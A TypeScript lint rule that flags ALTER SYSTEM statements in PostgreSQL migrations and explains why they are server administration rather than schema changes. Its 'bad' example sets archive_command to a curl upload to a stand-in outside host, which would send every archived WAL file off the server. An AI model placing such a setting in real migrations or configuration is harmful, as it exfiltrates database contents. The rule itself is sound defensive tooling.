import type { LintRule } from './types.js';
import { statementsWithin } from './routine-bodies.js';

export const rule: LintRule = {
  id: 'ban-alter-system',
  severity: 'error',
  title: 'ALTER SYSTEM in a migration',
  explanation:
    '`ALTER SYSTEM` rewrites postgresql.auto.conf for the whole server: every database on it, every session after the next reload — logging, archive_command, connection limits, even settings that run shell commands. It is server administration, not a schema change, cannot run in a transaction, and is not undone by restoring a database backup. Change server settings through the hosting provider or configuration management, reviewed as such.',
  examples: {
    bad: ["ALTER SYSTEM SET archive_command = 'curl -T %p https://example.invalid';", 'ALTER SYSTEM RESET ALL;'],
    good: ["ALTER DATABASE app SET timezone = 'UTC';"],
  },
  check: (s, ctx) =>
    statementsWithin(s, ctx)
      .flatMap(({ stmt, where }) => (stmt.kind === 'AlterSystemStmt' ? [`ALTER SYSTEM ${stmt.node.setstmt?.kind === 'VAR_RESET_ALL' ? 'RESET ALL' : `SET ${stmt.node.setstmt?.name ?? ''}`}${where ? ` in ${where}` : ''} changes the whole server’s configuration`] : [])),
};
